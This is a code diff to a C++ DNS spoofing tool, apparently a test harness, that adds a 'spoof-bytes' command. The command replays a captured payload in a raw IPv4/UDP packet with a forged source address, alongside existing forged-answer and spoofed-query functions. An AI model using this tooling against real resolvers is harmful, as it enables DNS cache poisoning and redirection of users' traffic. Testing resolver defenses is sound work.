@@ -6,6 +6,8 @@
 //   spoof-query SRC SPORT DST DPORT NAME   one A query in a hand-built IPv4+UDP
 //                                          packet on an IPPROTO_RAW socket
 //                                          (IP_HDRINCL), from any source
+//   spoof-bytes SRC SPORT DST DPORT HEX    the same packet around the payload
+//                                          HEX (a message captured elsewhere)
 //   raw-query DST DPORT NAME               one A query on a raw IPPROTO_UDP
 //                                          socket (the kernel's IP header)
 //   forge SRC SPORT DST DPORT NAME ADDR    A answers for NAME carrying ADDR, with
@@ -29,6 +31,7 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <cctype>
 #include <cerrno>
 #include <chrono>
 #include <cstdint>
@@ -114,7 +117,8 @@ Bytes Datagram(in_addr src, uint16_t sport, in_addr dst, uint16_t dport, const B
 
 int Usage() {
   std::fprintf(stderr,
-               "usage: egr-dns-attack spoof-query SRC SPORT DST DPORT NAME | raw-query DST DPORT NAME |\n"
+               "usage: egr-dns-attack spoof-query SRC SPORT DST DPORT NAME | spoof-bytes SRC SPORT DST DPORT HEX |\n"
+               "       raw-query DST DPORT NAME |\n"
                "       forge SRC SPORT DST DPORT NAME ADDR | hold-server ADDR PORT NAME ANSWER |\n"
                "       tcp-count ADDR PORT | rounds PREFIX SUFFIX FIRST COUNT PORT\n");
   return 2;
@@ -177,6 +181,29 @@ int SpoofQuery(char** a) {
   uint16_t sport = 0, dport = 0;
   if (!Addr4(a[0], &src) || !Port(a[1], &sport) || !Addr4(a[2], &dst) || !Port(a[3], &dport)) return Usage();
   return SendRaw("spoof-query", dst, {Datagram(src, sport, dst, dport, Message(0x5151, a[4], false))});
+}
+
+bool Hex(const char* text, Bytes* out) {
+  const std::string h = text;
+  if (h.empty() || h.size() % 2 != 0) return false;
+  for (size_t i = 0; i < h.size(); i += 2) {
+    char* end = nullptr;
+    const std::string pair = h.substr(i, 2);
+    const long v = std::strtol(pair.c_str(), &end, 16);
+    if (*end != '\0' || !std::isxdigit(static_cast<unsigned char>(pair[0]))) return false;
+    out->push_back(static_cast<uint8_t>(v));
+  }
+  return true;
+}
+
+int SpoofBytes(char** a) {
+  in_addr src{}, dst{};
+  uint16_t sport = 0, dport = 0;
+  Bytes payload;
+  if (!Addr4(a[0], &src) || !Port(a[1], &sport) || !Addr4(a[2], &dst) || !Port(a[3], &dport) || !Hex(a[4], &payload)) {
+    return Usage();
+  }
+  return SendRaw("spoof-bytes", dst, {Datagram(src, sport, dst, dport, payload)});
 }
 
 int RawQuery(char** a) {
@@ -397,6 +424,7 @@ int main(int argc, char** argv) {
   const int n = argc - 2;
   char** a = argv + 2;
   if (cmd == "spoof-query" && n == 5) return SpoofQuery(a);
+  if (cmd == "spoof-bytes" && n == 5) return SpoofBytes(a);
   if (cmd == "raw-query" && n == 3) return RawQuery(a);
   if (cmd == "forge" && n == 6) return Forge(a);
   if (cmd == "hold-server" && n == 4) return HoldServer(a);
